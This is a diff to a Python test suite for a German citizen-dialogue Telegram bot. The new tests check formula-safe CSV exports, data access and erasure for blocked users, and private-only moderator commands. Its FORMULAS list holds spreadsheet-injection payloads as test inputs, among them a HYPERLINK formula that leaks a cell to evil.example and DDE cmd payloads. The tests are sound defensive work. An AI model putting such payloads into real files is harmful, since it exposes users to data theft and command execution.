@@ -18,7 +18,7 @@ from bot.clock import Clock, system_clock
 from bot.config import Settings
 from bot.domain.pseudonym import keyed_hash, pseudonym_for
 from bot.emulator import BotApiEmulator
-from bot.export import snapshot
+from bot.export import snapshot, to_csv
 from handlers.moderation import moderator_router
 from storage.models import AuditEntry, Base, Rating
 from tests.digest_support import FakeClock
@@ -651,3 +651,73 @@ async def test_erasing_an_author_keeps_the_published_idea_and_no_link_to_them(
                 assert str(author.user.id) not in str(value), (name, row)
             assert row.get("key") not in states, (name, row)
     assert len(after["participants"]) == len(before["participants"]) - 1
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1;"Details")',
+    "=cmd|' /C calc'!A0 und mehr Text",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "+1+1 ist eine gute Idee für alle",
+    "-2+3 klingt nach einer Formel",
+    "\t=1+1 mit Tabulator davor",
+    "  =1+1 mit Leerzeichen davor",
+]
+
+
+async def test_export_cells_never_start_a_formula_and_name_no_moderator_id(mod: Harness) -> None:
+    for i, text in enumerate(FORMULAS):
+        await mod.citizen(6100 + i).take_part(["Sport & Events"], impulse=text, source="-x_src")
+    moderator = mod.citizen(MOD_A)
+    await moderator.send("/export")
+    documents = {
+        m.filename.split("-")[0]: m.document for m in moderator.user.messages if m.document
+    }
+    rows = list(csv.DictReader(io.StringIO(documents["impulse"].decode())))
+    assert len(rows) == len(FORMULAS)
+    for row in rows:
+        for value in row.values():
+            assert value[:1] not in "=+-@\t\r", value  # a spreadsheet shows text, not a formula
+    assert sorted(row["text"] for row in rows) == sorted("'" + text for text in FORMULAS)
+    assert {row["source"] for row in rows} == {"'-x_src"}
+    # `dialogbot export` writes the same cells.
+    data = await export(mod)
+    assert to_csv(data, "impulses") == documents["impulse"].decode()
+    full = json.loads(documents["dialogbot"])
+    assert full["audit"] and all(e["moderator"].startswith("mod-") for e in full["audit"])
+    assert str(MOD_A) not in documents["dialogbot"].decode()
+
+
+async def test_blocked_people_can_still_see_and_erase_their_data(mod: Harness) -> None:
+    author = mod.citizen(5040)
+    await author.take_part(["Kunst & Kreativität"], impulse="Ateliers in leeren Ladenlokalen")
+    moderator = mod.citizen(MOD_A)
+    await moderator.send("/block 1")
+    await author.send("/meinvotum")
+    assert "gesperrt" in author.last_text  # the block holds for everything else
+    await author.send("/meinedaten")
+    document = author.user.last_message.document
+    assert document is not None and b"Ateliers" in document
+    await author.send("/loeschen")
+    await author.press("Ja, alles löschen")
+    assert "gelöscht" in author.last_text
+    data = await export(mod)
+    assert data["participants"] == 0 and data["impulses"] == []
+
+
+async def test_stats_export_and_audit_answer_only_in_private(
+    emulator: BotApiEmulator, database_url: str
+) -> None:
+    group = emulator.add_group("Moderation Ruhr-Dialog")
+    mod = await start_harness(emulator, database_url, moderators_chat=group)
+    try:
+        await mod.citizen(5041).take_part(["Sport & Events"], impulse="Freibäder länger öffnen")
+        before = len(emulator.chat_messages(group))
+        for command in ("/stats", "/export", "/audit"):
+            emulator.user(MOD_A).send_text_in_group(group, command)
+        await mod.settle()
+        assert len(emulator.chat_messages(group)) == before  # nothing in the group
+        moderator = mod.citizen(MOD_A)
+        await moderator.send("/stats")
+        assert "Teilnehmende: 1" in moderator.last_text  # privately, as before
+    finally:
+        await mod.bot.stop()
